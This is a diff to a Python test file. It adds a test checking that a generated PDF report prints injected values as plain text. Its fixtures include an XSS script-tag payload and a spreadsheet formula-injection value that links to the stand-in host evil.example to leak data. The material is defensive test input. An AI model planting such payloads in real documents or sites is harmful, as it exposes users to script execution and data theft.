@@ -24,7 +24,7 @@ from collector.report.render import render
 from contract import records
 from tests.conftest import ADMIN_TOKEN, hinder_env
 from tests.report import dataset as ds
-from tests.report.conftest import synthetic_report
+from tests.report.conftest import need_chromium, need_poppler, synthetic_report
 
 SITE = "<script>alert('site')</script>"
 DEPARTMENT = '=HYPERLINK("http://evil.example/?leak","click me")'
@@ -181,3 +181,16 @@ def test_the_api_and_its_headers(hostile_db, collector_factory, tmp_path):
     # the page's own style sheet is what the header's policy allows: the report renders as designed
     style = re.search(r"<style>(.*?)</style>", bodies["html"].decode(), re.S).group(1)
     assert f"'sha256-{base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()}'" in csp
+
+
+def test_the_pdf_shows_them_as_text(hostile_db, collector_factory, tmp_path):
+    need_chromium()
+    need_poppler()
+    proc = collector_factory(db=hostile_db, args=("--config", str(_toml(tmp_path))))
+    r = httpx.get(f"{proc.url}/api/v1/reports/weekly", params={"week": ds.WEEK, "format": "pdf"},
+                  headers={"Authorization": f"Bearer {ADMIN_TOKEN}"}, timeout=120)
+    assert r.status_code == 200 and r.content.startswith(b"%PDF-")
+    (tmp_path / "r.pdf").write_bytes(r.content)
+    text = subprocess.run(["pdftotext", "-raw", str(tmp_path / "r.pdf"), "-"], capture_output=True, text=True,
+                          check=True).stdout
+    assert SITE in text  # printed as the text it is, not run
